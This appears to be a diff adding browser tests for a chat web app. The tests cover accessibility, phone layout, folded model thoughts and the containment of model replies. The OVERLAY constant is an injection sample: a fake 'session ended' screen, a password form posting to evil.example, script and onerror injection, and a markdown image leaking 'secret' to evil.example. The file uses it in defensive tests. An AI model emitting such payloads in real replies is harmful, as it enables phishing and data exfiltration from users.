@@ -1,0 +1,98 @@
+"""What must hold on every page: accessible, on a phone too, nothing fetched from elsewhere, a reply stays in its place."""
+
+from collections.abc import Callable
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, Page, Request, expect
+
+from tests.browser.conftest import Site, send, settled
+
+OVERLAY = (
+    '<div style="position:fixed;inset:0;z-index:9999;background:red">Your session ended</div>'
+    '<form action="https://evil.example"><input type="password" name="p"></form>'
+    '<img src="https://evil.example/pixel.png" onerror="window.hacked=1"><script>window.hacked=1</script>'
+    "![x](https://evil.example/?q=secret)"
+)
+MARKDOWN = "# Title\n\nSome **bold** text, `code`, \\(x^2\\) and \\[y^2\\].\n\n```python\nprint(1)\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n"
+
+
+def serious(page: Page) -> list[str]:
+    found = Axe().run(page).response["violations"]
+    return [f"{v['id']}: {v['nodes'][0]['html'][:200]}" for v in found if v["impact"] in ("serious", "critical")]
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+def test_axe_finds_nothing_serious(theme: str, visit: Callable[..., Page], site: Site) -> None:
+    page = visit(f"/?__theme={theme}")
+    expect(page.locator("#model-line")).to_contain_text("scripted")
+    assert serious(page) == []
+    site.say(MARKDOWN)
+    send(page, "Show me everything")
+    settled(page)
+    page.evaluate("chatapp.fold('right', false)")
+    expect(page.locator("#system")).to_be_visible()
+    assert serious(page) == []
+
+
+def test_nothing_is_fetched_from_elsewhere_even_when_a_reply_wants_it(visit: Callable[..., Page], site: Site) -> None:
+    foreign: list[str] = []
+    page = visit("/")
+
+    def note(request: Request) -> None:
+        if not request.url.startswith((site.url, "data:", "blob:")) and request.failure is None:
+            foreign.append(request.url)
+
+    page.context.on("requestfinished", note)
+    page.reload()
+    site.say(OVERLAY)
+    send(page, "attack")
+    settled(page)
+    page.wait_for_timeout(500)
+    assert foreign == []
+    assert page.evaluate("window.hacked") is None
+
+
+def test_what_a_reply_draws_stays_in_its_bubble(page: Page, site: Site) -> None:
+    site.say(OVERLAY)
+    send(page, "attack")
+    settled(page)
+    box = page.locator("#message").bounding_box()
+    top = page.evaluate("([x, y]) => document.elementFromPoint(x, y).id", [box["x"] + 20, box["y"] + box["height"] / 2])
+    assert top == "message"
+    for field in page.locator("#bot input[type=password], #bot form").all():
+        assert not field.is_visible()
+
+
+def test_code_like_tags_and_prices_do_not_vanish(page: Page, site: Site) -> None:
+    site.say("Use <my-widget> for $5 or $6; std::vector<int> too")
+    send(page, "<b>what</b> is List<String>?")
+    settled(page)
+    text = page.locator("#bot .bot-row").inner_text()
+    assert "<my-widget>" in text and "$5 or $6" in text
+
+
+def test_thoughts_are_folded(page: Page, site: Site) -> None:
+    site.say("<think>", "secret musing", "</think>", "Answer")
+    send(page, "think")
+    settled(page)
+    expect(page.locator("#bot .bot-row")).to_contain_text("Answer")
+    expect(page.get_by_text("secret musing")).not_to_be_visible()
+    page.locator("#bot .thought-group .title").click()
+    expect(page.get_by_text("secret musing")).to_be_visible()
+
+
+def test_on_a_phone_the_sidebar_is_closed_and_closes_itself(browser: Browser, site: Site) -> None:
+    context = browser.new_context(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
+    page = context.new_page()
+    page.goto(site.url)
+    expect(page.locator("#welcome")).to_be_visible()
+    expect(page.locator("#left")).not_to_be_visible()
+    send(page, "from a phone")
+    settled(page)
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    page.get_by_role("button", name="Show the conversations").click()
+    expect(page.locator("#left")).to_be_visible()
+    page.locator("#conversations .open").first.click()
+    expect(page.locator("#left")).not_to_be_visible()
+    context.close()
